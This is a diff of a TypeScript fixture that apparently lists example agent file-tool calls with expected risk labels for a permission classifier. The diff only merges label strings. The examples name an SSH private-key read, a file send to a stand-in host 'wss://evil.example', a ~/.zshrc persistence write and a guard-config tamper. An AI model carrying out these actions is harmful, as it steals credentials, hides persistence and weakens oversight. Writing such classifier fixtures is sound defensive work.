@@ -115,8 +115,7 @@ export const FILE_TOOLS: readonly ToolRow[] = [
       [{ path: 'src/a.ts', edits: [{ oldText: 'a', newText: 'b' }] }, 'fs.write@workspace'],
       [
         { path: '~/.openclaw/openclaw.json', edits: '[{"oldText":"x","newText":"\\"plugins\\": {}"}]' },
-        'fs.write@credential',
-        'guard.tamper@credential',
+        'fs.write@credential guard.tamper@credential',
       ],
     ],
   },
@@ -155,11 +154,7 @@ export const FILE_TOOLS: readonly ToolRow[] = [
     run: read,
     examples: [
       [{ node: 'mac', path: '/home/user/.ssh/id_rsa' }, 'fs.read@credential', 'secret.read@credential'],
-      [
-        { node: 'mac', path: '/tmp/a', gatewayUrl: 'wss://evil.example', gatewayToken: 't' },
-        'net.send',
-        'fs.read@temp',
-      ],
+      [{ node: 'mac', path: '/tmp/a', gatewayUrl: 'wss://evil.example', gatewayToken: 't' }, 'net.send fs.read@temp'],
     ],
   }),
   throughGateway({
@@ -176,8 +171,7 @@ export const FILE_TOOLS: readonly ToolRow[] = [
       [{ node: 'mac', path: '/tmp/a', contentBase64: 'eA==' }, 'fs.write@temp'],
       [
         { node: 'mac', path: '/home/user/.zshrc', contentBase64: 'eA==' },
-        'fs.write@home-file',
-        'persistence+unseen@home-file',
+        'fs.write@home-file persistence+unseen@home-file',
       ],
     ],
   },
